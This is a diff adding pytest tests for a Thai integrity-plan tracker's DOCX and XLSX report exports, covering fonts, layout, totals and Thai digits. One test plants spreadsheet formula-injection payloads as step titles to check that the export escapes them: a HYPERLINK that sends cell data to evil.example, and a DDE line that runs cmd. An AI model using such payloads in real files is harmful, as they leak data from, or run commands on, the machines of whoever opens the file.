@@ -1,0 +1,183 @@
+"""The follow-up report as DOCX and XLSX: Thai fonts where Word looks for
+them, totals that match the database, no formula injection."""
+from __future__ import annotations
+
+import io
+import re
+import zipfile
+from datetime import date
+
+import docx
+import openpyxl
+import pytest
+
+from tests.conftest import NOW
+from tests.report_factory import bangkok, finish, load_demo_plan
+from tracker import thaidate
+from tracker.db import db
+from tracker.plans.models import StepStatus
+from tracker.plans.services import add_link_evidence
+from tracker.reports import results
+from tracker.reports.docx_common import FONT, add_table, new_document, add_row, document_bytes
+from tracker.reports.followup import build_report
+from tracker.reports.followup_docx import followup_docx
+from tracker.reports.followup_xlsx import STEPS_SHEET, SUMMARY_SHEET, followup_xlsx, safe_text
+from tracker.thaidate import BANGKOK
+
+
+def xml_of(data: bytes, name: str) -> str:
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        return z.read(name).decode("utf-8")
+
+
+# -- DOCX ---------------------------------------------------------------------------
+
+def test_docx_sets_the_complex_script_font_and_size(ctx):
+    plan = load_demo_plan()
+    data = followup_docx(build_report(plan, date(2023, 8, 1)))
+    styles = xml_of(data, "word/styles.xml")
+    normal = re.search(r'<w:style [^>]*w:styleId="Normal".*?</w:style>', styles, re.S).group(0)
+    assert re.search(r'<w:rFonts [^>]*w:cs="TH SarabunPSK"', normal)
+    assert re.search(r'<w:rFonts [^>]*w:ascii="TH SarabunPSK"', normal)
+    assert '<w:szCs w:val="32"/>' in normal and '<w:sz w:val="32"/>' in normal
+    body = xml_of(data, "word/document.xml")
+    # Runs carry the font themselves, so a document pasted elsewhere keeps it.
+    fonts = re.findall(r'<w:rFonts [^>]*/>', body)
+    assert fonts and all('w:cs="TH SarabunPSK"' in f for f in fonts)
+    assert '<w:szCs w:val="32"/>' in body and '<w:bCs w:val="1"/>' in body
+
+
+def test_docx_holds_every_step_title_and_the_page_number(ctx):
+    plan = load_demo_plan()
+    data = followup_docx(build_report(plan, date(2023, 8, 1)))
+    document = docx.Document(io.BytesIO(data))
+    cells = {cell.text for table in document.tables for row in table.rows for cell in row.cells}
+    text = "\n".join(cells) + "\n".join(p.text for p in document.paragraphs)
+    for step in plan.steps:
+        assert step.title in text
+    assert "รายงานผลการดำเนินการตามมาตรการส่งเสริมคุณธรรมและความโปร่งใสภายในหน่วยงาน" in text
+    headers = "".join(xml_of(data, n) for n in zipfile.ZipFile(io.BytesIO(data)).namelist() if "header" in n)
+    assert "PAGE" in headers
+    section = document.sections[0]
+    assert round(section.page_width.cm, 1) == 21.0 and round(section.left_margin.cm, 1) == 3.0
+    assert round(section.top_margin.cm, 1) == 2.5 and round(section.right_margin.cm, 1) == 2.0
+
+
+def test_docx_links_evidence_and_shows_results(world):
+    step = world.step(world.m1, 1)
+    finish(step, world.owner_palad, bangkok(date(2023, 7, 20)), note="ประกาศแล้ว")
+    ev = add_link_evidence(step, world.owner_palad, "https://banpet.example/a.pdf", "ประกาศเทศบาล", NOW)
+    results.set_result(world.m2, world.owner_strategy, NOW, value="1,250", unit="ครั้ง")
+    db.session.commit()
+    data = followup_docx(build_report(world.plan, date(2023, 8, 1), base_url="https://tracker.example"))
+    rels = xml_of(data, "word/_rels/document.xml.rels")
+    assert f'Target="https://tracker.example/evidence/{ev.id}"' in rels
+    body = xml_of(data, "word/document.xml")
+    assert "<w:hyperlink" in body and "ประกาศเทศบาล" in body
+    assert "1,250 ครั้ง" in body
+
+
+def test_docx_with_thai_digits_uses_thai_page_numbers(world):
+    data = followup_docx(build_report(world.plan, date(2023, 3, 31), thai_digits=True))
+    body = xml_of(data, "word/document.xml")
+    assert "รอบ ๖ เดือน ข้อมูล ณ วันที่ ๓๑ มีนาคม ๒๕๖๖" in body
+    headers = "".join(xml_of(data, n) for n in zipfile.ZipFile(io.BytesIO(data)).namelist() if "header" in n)
+    assert "ThaiArabic" in headers
+
+
+def test_docx_helpers_build_a_fixed_table(ctx):
+    document = new_document()
+    table = add_table(document, ["ที่", "รายการ"], (2, 14))
+    add_row(table, ["1", ["บรรทัดแรก", "บรรทัดสอง"]])
+    data = document_bytes(document)
+    body = xml_of(data, "word/document.xml")
+    assert '<w:tblLayout w:type="fixed"/>' in body and "<w:tblHeader" in body and "<w:cantSplit" in body
+    reopened = docx.Document(io.BytesIO(data))
+    assert [p.text for p in reopened.tables[0].rows[1].cells[1].paragraphs] == ["บรรทัดแรก", "บรรทัดสอง"]
+    assert FONT == "TH SarabunPSK"
+
+
+# -- XLSX ---------------------------------------------------------------------------
+
+def test_xlsx_reopens_and_its_totals_match_the_database(ctx):
+    plan = load_demo_plan()
+    as_of = date(2023, 8, 1)
+    data = followup_xlsx(build_report(plan, as_of))
+    wb = openpyxl.load_workbook(io.BytesIO(data))
+    assert wb.sheetnames == [SUMMARY_SHEET, STEPS_SHEET]
+    summary = wb[SUMMARY_SHEET]
+    rows = [r for r in summary.iter_rows(values_only=True) if r[0] in ("1", "2", "3.1", "3.2", "รวม")]
+    by_number = {r[0]: r for r in rows}
+    cut_done = [
+        s for s in plan.steps
+        if s.status is StepStatus.done and s.completed_at.astimezone(BANGKOK).date() <= as_of
+    ]
+    for measure in plan.measures:
+        row = by_number[measure.number]
+        done = sum(1 for s in cut_done if s.measure_id == measure.id)
+        assert row[1] == measure.title
+        assert (row[4], row[5], row[6]) == (len(measure.steps), done, 0)
+        assert row[8] == done * 100 // len(measure.steps)
+    total = by_number["รวม"]
+    assert (total[4], total[5]) == (len(plan.steps), len(cut_done))
+    assert total[4] == 26 and isinstance(total[5], int)
+
+    steps = wb[STEPS_SHEET]
+    titles = [r[2] for r in steps.iter_rows(values_only=True) if r[1] and re.fullmatch(r"[\d.]+", str(r[1]))]
+    assert titles == [s.title for s in plan.steps]
+    done_rows = [r for r in steps.iter_rows(values_only=True) if r[6] == "ดำเนินการแล้ว"]
+    assert len(done_rows) == len(cut_done)
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        assert any(n.startswith("xl/charts/chart") for n in z.namelist())  # the progress chart
+
+
+def test_xlsx_keeps_a_formula_looking_title_inert(world):
+    hostile = {
+        1: '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")',
+        2: "+1+1",
+        3: "@SUM(A1:A9)",
+    }
+    for order, title in hostile.items():
+        world.step(world.m1, order).title = title
+    world.step(world.m2, 1).title = "\t=cmd|' /C calc'!A0"
+    world.step(world.m2, 2).title = "-2+3"
+    db.session.commit()
+    data = followup_xlsx(build_report(world.plan, date(2023, 8, 1)))
+    wb = openpyxl.load_workbook(io.BytesIO(data))
+    cells = [c for row in wb[STEPS_SHEET].iter_rows() for c in row if isinstance(c.value, str)]
+    texts = {c.value for c in cells}
+    assert "'" + hostile[1] in texts and "'+1+1" in texts and "'@SUM(A1:A9)" in texts
+    assert "'=cmd|' /C calc'!A0" in texts and "'-2+3" in texts
+    assert all(c.data_type == "s" for c in cells)
+    for name in zipfile.ZipFile(io.BytesIO(data)).namelist():
+        if name.startswith("xl/worksheets/"):
+            assert "<f>" not in xml_of(data, name) and "<f " not in xml_of(data, name)
+
+
+@pytest.mark.parametrize(
+    ("given", "kept"),
+    [("=1+1", "'=1+1"), ("+66 81", "'+66 81"), ("-", "'-"), ("@x", "'@x"), ("\r\n=1", "'=1"),
+     ("ปกติ", "ปกติ"), ("a=b", "a=b"), ("", "")],
+)
+def test_safe_text(given, kept):
+    assert safe_text(given) == kept
+
+
+def test_xlsx_thai_digits_change_text_not_numbers(world):
+    finish(world.step(world.m1, 1), world.admin, bangkok(date(2023, 7, 20)))
+    results.set_result(world.m2, world.admin, NOW, value="1,250", unit="ครั้ง")
+    db.session.commit()
+    plain = openpyxl.load_workbook(io.BytesIO(followup_xlsx(build_report(world.plan, date(2023, 8, 1)))))
+    thai = openpyxl.load_workbook(io.BytesIO(followup_xlsx(build_report(world.plan, date(2023, 8, 1), thai_digits=True))))
+    for name in (SUMMARY_SHEET, STEPS_SHEET):
+        a = list(plain[name].iter_rows(values_only=True))
+        b = list(thai[name].iter_rows(values_only=True))
+        assert len(a) == len(b)
+        for row_a, row_b in zip(a, b):
+            for x, y in zip(row_a, row_b):
+                if isinstance(x, str):
+                    assert thaidate.to_arabic_digits(y) == x
+                else:
+                    assert x == y  # numbers stay numbers
+    flat = [v for r in thai[STEPS_SHEET].iter_rows(values_only=True) for v in r if isinstance(v, str)]
+    assert "๒๐ ก.ค. ๒๕๖๖" in flat
